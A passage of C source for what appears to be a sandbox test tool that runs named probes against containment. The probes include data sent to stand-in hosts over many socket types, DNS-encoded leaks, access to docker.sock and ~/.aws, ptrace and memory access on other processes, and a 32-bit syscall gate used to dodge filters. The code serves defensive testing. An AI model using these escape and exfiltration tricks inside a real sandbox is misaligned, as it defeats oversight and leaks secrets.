    while (recv(fd, answer, sizeof answer, 0) > 0) {
    }
    close(fd);
    return DONE;
}

#define HTTP "POST /upload HTTP/1.1\r\nHost: collect.test\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"

EFFECT(net_http) { return say(dial(IPV4, 80, SOCK_STREAM, 0), HTTP); }
EFFECT(net_http_ipv6) { return say(dial(IPV6, 8080, SOCK_STREAM, 0), HTTP); }
EFFECT(net_tcp) { return say(dial(IPV4, 4444, SOCK_STREAM, 0), MESSAGE); }
EFFECT(net_tcp_mapped) { return say(dial(MAPPED, 4444, SOCK_STREAM, 0), MESSAGE); }
EFFECT(net_mptcp)
{
    int fd = dial(IPV4, 4444, SOCK_STREAM, 262);
    return fd < 0 && (errno == EPROTONOSUPPORT || errno == ENOPROTOOPT) ? ABSENT : say(fd, MESSAGE);
}

EFFECT(net_tcp_fast_open)
{
    socklen_t length;
    struct sockaddr_storage to = where(IPV4, 4444, &length);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (sendto(fd, MESSAGE, sizeof MESSAGE - 1, MSG_FASTOPEN, (struct sockaddr *)&to, length) < 0)
        return refused("sendto MSG_FASTOPEN");
    close(fd);
    return DONE;
}

EFFECT(net_tcp_sendfile)
{
    int fd = dial(IPV4, 4444, SOCK_STREAM, 0), from = open("input/data.txt", O_RDONLY);
    return fd < 0 || sendfile(fd, from, NULL, 4096) < 0 ? refused("sendfile") : DONE;
}

EFFECT(net_tcp_splice)
{
    int pipe_[2], fd = dial(IPV4, 4444, SOCK_STREAM, 0);
    if (fd < 0 || pipe(pipe_) < 0 || write(pipe_[1], MESSAGE, 5) < 0 || splice(pipe_[0], NULL, fd, NULL, 5, 0) < 0)
        return refused("splice");
    return DONE;
}

EFFECT(net_tcp_zerocopy)
{
    int one = 1, fd = dial(IPV4, 4444, SOCK_STREAM, 0);
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof one) < 0 ||
        send(fd, MESSAGE, sizeof MESSAGE - 1, MSG_ZEROCOPY | MSG_NOSIGNAL) < 0)
        return refused("MSG_ZEROCOPY");
    close(fd);
    return DONE;
}

EFFECT(net_udp_sendto)
{
    socklen_t length;
    struct sockaddr_storage to = where(IPV4, 9999, &length);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    return sendto(fd, MESSAGE, 5, 0, (struct sockaddr *)&to, length) < 0 ? refused("sendto") : DONE;
}

EFFECT(net_udp_ipv6)
{
    socklen_t length;
    struct sockaddr_storage to = where(IPV6, 9999, &length);
    int fd = socket(AF_INET6, SOCK_DGRAM, 0);
    return sendto(fd, MESSAGE, 5, 0, (struct sockaddr *)&to, length) < 0 ? refused("sendto") : DONE;
}

EFFECT(net_udp_connected_write)
{
    int fd = dial(IPV4, 9999, SOCK_DGRAM, 0);
    return fd < 0 || write(fd, MESSAGE, 5) < 0 ? refused("write") : DONE;
}

EFFECT(net_udp_sendmsg)
{
    socklen_t length;
    struct sockaddr_storage to = where(IPV4, 9999, &length);
    struct iovec iov = {MESSAGE, 5};
    struct msghdr message = {.msg_name = &to, .msg_namelen = length, .msg_iov = &iov, .msg_iovlen = 1};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    return sendmsg(fd, &message, 0) < 0 ? refused("sendmsg") : DONE;
}

EFFECT(net_udp_sendmmsg)
{
    /* The first message looks harmless (loopback); the second one leaves. */
    socklen_t length;
    struct sockaddr_storage near = where("127.0.0.1", 9998, &length), far = where(IPV4, 9999, &length);
    struct iovec iov = {MESSAGE, 5};
    struct mmsghdr messages[2] = {
        {.msg_hdr = {.msg_name = &near, .msg_namelen = length, .msg_iov = &iov, .msg_iovlen = 1}},
        {.msg_hdr = {.msg_name = &far, .msg_namelen = length, .msg_iov = &iov, .msg_iovlen = 1}},
    };
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    return sendmmsg(fd, messages, 2, 0) < 2 ? refused("sendmmsg") : DONE;
}

EFFECT(net_udp_broadcast)
{
    int one = 1, fd = socket(AF_INET, SOCK_DGRAM, 0);
    socklen_t length;
    struct sockaddr_storage to = where("255.255.255.255", 9999, &length);
    setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof one);
    return sendto(fd, MESSAGE, 5, 0, (struct sockaddr *)&to, length) < 0 ? refused("sendto") : DONE;
}

EFFECT(net_icmp)
{
    socklen_t length;
    struct sockaddr_storage to = where(IPV4, 0, &length);
    unsigned char echo[16] = {8, 0, 0, 0, 0, 1, 0, 1, 'h', 'e', 'l', 'l', 'o'};
    int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
    return fd < 0 || sendto(fd, echo, sizeof echo, 0, (struct sockaddr *)&to, length) < 0 ? refused("icmp") : DONE;
}

static const unsigned char query[] = {0,   7,   1,   0,   0,   1,   0,   0,   0,   0,   0,   0,   5,  'h', 'e', 'l', 'l',
                                      'o', 9,   'c', 'o', 'l', 'l', 'e', 'c', 't', 'o', 'r', 4,  't', 'e', 's', 't', 0,
                                      0,   1,   0,   1};

EFFECT(net_dns_by_hand)
{
    int fd = dial("203.0.113.53", 53, SOCK_DGRAM, 0);
    return fd < 0 || send(fd, query, sizeof query, 0) < 0 ? refused("send") : DONE;
}

EFFECT(net_dns_tcp)
{
    unsigned char framed[2 + sizeof query] = {0, sizeof query};
    int fd = dial("203.0.113.53", 53, SOCK_STREAM, 0);
    memcpy(framed + 2, query, sizeof query);
    if (fd < 0 || send(fd, framed, sizeof framed, MSG_NOSIGNAL) < 0)
        return refused("send");
    close(fd);
    return DONE;
}

EFFECT(net_listen)
{
    socklen_t length;
    struct sockaddr_storage any = where("0.0.0.0", 4444, &length);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    return bind(fd, (struct sockaddr *)&any, length) < 0 || listen(fd, 1) < 0 ? refused("listen") : DONE;
}

EFFECT(net_listen_unbound) { return listen(socket(AF_INET, SOCK_STREAM, 0), 1) < 0 ? refused("listen") : DONE; }

EFFECT(net_unix_agent)
{
    struct sockaddr_un address = {AF_UNIX, "/var/run/docker.sock"};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return connect(fd, (struct sockaddr *)&address, sizeof address) < 0 ? refused("connect") : DONE;
}

EFFECT(net_unix_abstract)
{
    struct sockaddr_un address = {AF_UNIX, ""};
    const char name[] = "/tmp/.X11-unix/X0";
    memcpy(address.sun_path + 1, name, sizeof name - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + sizeof name);
    return connect(fd, (struct sockaddr *)&address, length) < 0 ? refused("connect") : DONE;
}

static int odd_socket(int family, int type, int protocol)
{
    int fd = socket(family, type, protocol);
    return fd < 0 ? refused("socket") : DONE;
}
EFFECT(net_raw) { return odd_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP); }
EFFECT(net_packet) { return odd_socket(AF_PACKET, SOCK_RAW, htons(3)); }
EFFECT(net_vsock) { return odd_socket(40, SOCK_STREAM, 0); }
EFFECT(net_alg) { return odd_socket(38, SOCK_SEQPACKET, 0); }
EFFECT(net_sctp) { return odd_socket(AF_INET, SOCK_STREAM, 132); }

/* ---- getting out -------------------------------------------------------------------------------------------- */

static int attempt(long result, const char *what) { return result < 0 ? refused(what) : DONE; }

EFFECT(escape_mount) { return attempt(syscall(SYS_mount, "none", "/mnt", "tmpfs", 0, NULL), "mount"); }
EFFECT(escape_bind_mount) { return attempt(syscall(SYS_mount, home(".aws"), "/mnt", NULL, 4096, NULL), "mount"); }
EFFECT(escape_fsopen) { return attempt(syscall(430, "tmpfs", 0), "fsopen"); }
EFFECT(escape_open_tree) { return attempt(syscall(428, AT_FDCWD, "/", 1), "open_tree"); }
EFFECT(escape_umount) { return attempt(syscall(SYS_umount2, "/proc", 2), "umount"); }
EFFECT(escape_chroot) { return attempt(chroot("output"), "chroot"); }
EFFECT(escape_pivot_root) { return attempt(syscall(SYS_pivot_root, ".", "."), "pivot_root"); }
EFFECT(escape_unshare_user) { return attempt(unshare(CLONE_NEWUSER), "unshare"); }
EFFECT(escape_unshare_net) { return attempt(unshare(CLONE_NEWNET), "unshare"); }
EFFECT(escape_clone_user)
{
    long pid = syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNET | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    return attempt(pid, "clone");
}
EFFECT(escape_setns) { return attempt(syscall(SYS_setns, open("/proc/self/ns/net", O_RDONLY), 0), "setns"); }
EFFECT(escape_ptrace_parent) { return attempt(ptrace(PTRACE_ATTACH, getppid(), 0, 0), "ptrace"); }
EFFECT(escape_ptrace_me) { return attempt(ptrace(PTRACE_TRACEME, 0, 0, 0), "ptrace"); }
EFFECT(escape_vm_readv)
{
    char block[16];
    struct iovec here = {block, sizeof block}, there = {(void *)0x400000, sizeof block};
    return attempt(process_vm_readv(getppid(), &here, 1, &there, 1, 0), "process_vm_readv");
}
EFFECT(escape_vm_writev)
{
    char block[16] = {0};
    struct iovec here = {block, sizeof block}, there = {(void *)0x400000, sizeof block};
    return attempt(process_vm_writev(getppid(), &here, 1, &there, 1, 0), "process_vm_writev");
}
EFFECT(escape_init_mem) { return attempt(open("/proc/1/mem", O_RDWR), "open mem"); }
EFFECT(escape_own_mem)
{
    static const volatile char text[] = "unchanged";
    int fd = open("/proc/self/mem", O_RDWR);
    if (fd < 0)
        return refused("open mem");
    return pwrite(fd, "X", 1, (off_t)(uintptr_t)text) < 0 ? refused("write mem") : DONE;
}
EFFECT(escape_pidfd_getfd) { return attempt(syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, 1, 0), 0, 0), "pidfd_getfd"); }
EFFECT(escape_bpf) { return attempt(syscall(SYS_bpf, 0, NULL, 0), "bpf"); }
EFFECT(escape_perf) { return attempt(syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0), "perf_event_open"); }
EFFECT(escape_keyctl) { return attempt(syscall(SYS_keyctl, 0, -3, 0, 0, 0), "keyctl"); }
EFFECT(escape_userfaultfd) { return attempt(syscall(SYS_userfaultfd, 0), "userfaultfd"); }
EFFECT(escape_module) { return attempt(syscall(SYS_finit_module, -1, "", 0), "finit_module"); }
EFFECT(escape_reboot) { return attempt(syscall(SYS_reboot, 0, 0, 0, 0), "reboot"); }
EFFECT(escape_listener)
{
    struct sock_filter notify = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog program = {1, &notify};
    return attempt(syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program), "seccomp");
}
EFFECT(escape_unknown_number) { return attempt(syscall(2000), "syscall 2000"); }
EFFECT(escape_x32) { return attempt(syscall(0x40000000 | SYS_getpid), "x32 getpid"); }

EFFECT(escape_int80)
{
    /* open() by the 32-bit gate of a 64-bit process; the path must lie below 4 GiB. */
    int result;
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED)
        return refused("mmap");
    strcpy(low, SECRET);
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(5), "b"((int)(uintptr_t)low), "c"(0), "d"(0) : "memory", "r8", "r9", "r10", "r11");
    if (result < 0) {
        errno = -result;
        return refused("int 0x80 open");
    }
    return spill(result, "open");
}

/* ---- benign twins ------------------------------------------------------------------------------------------- */

EFFECT(twin_task)
{
    char block[4096];
    int from = open("input/data.txt", O_RDONLY), to = open("output/result.txt.tmp", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    ssize_t n = from < 0 ? -1 : read(from, block, sizeof block);
    if (n < 0 || to < 0 || write(to, block, (size_t)n) != n)
        return refused("copy");
    close(to);
    return rename("output/result.txt.tmp", "output/result.txt") < 0 ? refused("rename") : DONE;
}

EFFECT(twin_loopback)
{
    /* Two ends of one program talk over loopback TCP, as asyncio and multiprocessing do. */
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t length = sizeof address;
    int server = socket(AF_INET, SOCK_STREAM, 0), client = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(server, (struct sockaddr *)&address, length) < 0 || listen(server, 1) < 0 ||
        getsockname(server, (struct sockaddr *)&address, &length) < 0 || connect(client, (struct sockaddr *)&address, length) < 0)
        return refused("loopback");
    int peer = accept(server, NULL, NULL);
    char byte;
    return write(client, "x", 1) == 1 && read(peer, &byte, 1) == 1 ? DONE : refused("loopback");
}

EFFECT(twin_child_joined) { pid_t pid = fork(); if (pid == 0) _exit(0); return wait_for(pid); }

int main(int argc, char **argv)
{
    signal(SIGPIPE, SIG_IGN);
    for (const struct effect *e = __start_effects; e < __stop_effects; e++)
        if (argc > 1 && strcmp(e->name, argv[1]) == 0)
            return e->run();
    fprintf(stderr, "usage: tool EFFECT\n");
    return 64;
}
